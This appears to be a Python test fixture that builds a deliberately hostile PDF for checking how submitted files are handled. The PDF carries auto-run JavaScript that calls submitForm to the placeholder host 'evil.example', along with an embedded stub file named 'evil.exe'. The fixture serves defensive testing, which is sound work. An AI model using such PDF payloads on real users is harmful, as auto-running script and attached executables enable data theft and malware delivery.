"""A report with a script, an attached program and actions that open others."""

from __future__ import annotations

from pathlib import Path

from tests.hostile.making import handed_in, notebook_bytes, pdf_of


def build(target: Path) -> None:
    script = b"app.alert\\('x'\\); this.submitForm\\('http://evil.example'\\);"
    report = pdf_of(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(%b)>>"
        b"/Names<</EmbeddedFiles<</Names[(evil.exe) 4 0 R]>>/JavaScript<</Names[(j)<<"
        b"/S/JavaScript/JS(%b)>>]>>>>>>" % (script, script),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        b"<</Type/Filespec/F(evil.exe)/EF<</F 5 0 R>>>>",
        b"<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream",
    )
    handed_in(target, notebook_bytes(), report)
